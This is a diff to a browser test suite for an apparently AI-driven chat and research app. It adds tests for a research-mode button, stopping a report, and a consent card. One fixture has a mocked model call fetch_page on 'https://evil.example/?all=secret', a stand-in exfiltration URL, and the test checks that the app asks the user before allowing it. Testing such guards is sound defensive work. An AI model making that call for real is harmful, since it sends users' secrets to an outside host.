@@ -5,11 +5,19 @@ import { after, before, test } from "node:test";
 import { check } from "./axe.mjs";
 import { launch, openPage } from "./browser.mjs";
 import { setUp } from "./people.mjs";
-import { pause, startGlasshouse, startModel, text, turn } from "./programs.mjs";
+import { calls, pause, startGlasshouse, startModel, text, turn } from "./programs.mjs";
 
 const json = (value) => text(JSON.stringify(value));
 const note = (point, quote) => ({ point, quote });
 const CASES = [
+  {
+    contains: "Open what the page says",
+    turns: [
+      turn(calls(["fetch_page", { url: "https://evil.example/?all=secret" }])),
+      turn(text("It was not opened.")),
+    ],
+  },
+  { contains: "What was to be found out:\n- Halfway", turns: [turn(pause(60_000), text("Never."))] },
   {
     contains: "Write the report now.",
     turns: [
@@ -124,6 +132,16 @@ test("the button goes through its three states, and goes off where one goes else
   await page.getByRole("heading", { name: "Knowledge" }).waitFor();
   await page.goBack();
   await button().waitFor();
+  await button().click();
+  assert.equal(await modeOf(), "research");
+  await page.getByRole("button", { name: "New chat" }).click();
+  assert.equal(await modeOf(), "chat", "a new chat begins without it");
+  await button().click();
+  await page.locator('a[href="/knowledge"]').first().click();
+  await page.getByRole("heading", { name: "Knowledge" }).waitFor();
+  await page.goBack();
+  await button().waitFor();
+  assert.equal(await modeOf(), "chat", "and so does whoever comes from another page");
 });
 
 test("the plan waits, the report cites, and each citation leads to its words", async () => {
@@ -221,6 +239,38 @@ test("after a reload all is there, and the steps show the turns", async () => {
   await page.locator("[data-steps-toggle]").last().press("Enter");
   await page.getByText("Turn 1", { exact: true }).waitFor();
   await pictures("steps");
+});
+
+test("who stops it gets what it knows", async () => {
+  await page.goto("/");
+  while ((await modeOf()) !== "research") await button().click();
+  await box().fill("What does the walrus cost here?");
+  await box().press("Enter");
+  await page.getByLabel("Plan, one part on each line").fill("Halfway\nWhat it costs");
+  await page.getByRole("button", { name: "Begin", exact: true }).click();
+  await page.getByText("Writing the report…").first().waitFor();
+  await page.getByRole("button", { name: "Stop", exact: true }).click();
+  const answer = page.locator(".answer").last();
+  await answer.getByText("It costs 400 euros.").waitFor();
+  assert.deepEqual(await answer.locator("[data-cite]").allInnerTexts(), ["1", "2", "3"]);
+  await page.getByRole("region", { name: "Sources" }).getByText("2 of 3 cited").waitFor();
+  await pictures("stopped");
+});
+
+test("an address that nobody has named says why it asks", async () => {
+  await page.goto("/");
+  await box().fill("Open what the page says");
+  await box().press("Enter");
+  const card = page.getByRole("region", { name: /wants to run/ });
+  await card.getByText("Neither you nor a search has named this address.").waitFor();
+  await card.getByText("https://evil.example/?all=secret").waitFor();
+  await pictures("consent");
+  await check(page, "the card of an address that nobody has named");
+  await page.goto("/inbox");
+  await page.getByText("Neither you nor a search has named this address.").waitFor();
+  await page.getByRole("button", { name: "Deny…" }).click();
+  await page.getByRole("button", { name: "Deny", exact: true }).click();
+  await page.getByText("Neither you nor a search has named this address.").waitFor({ state: "detached" });
 });
 
 test("who wants the report now gets it", async () => {
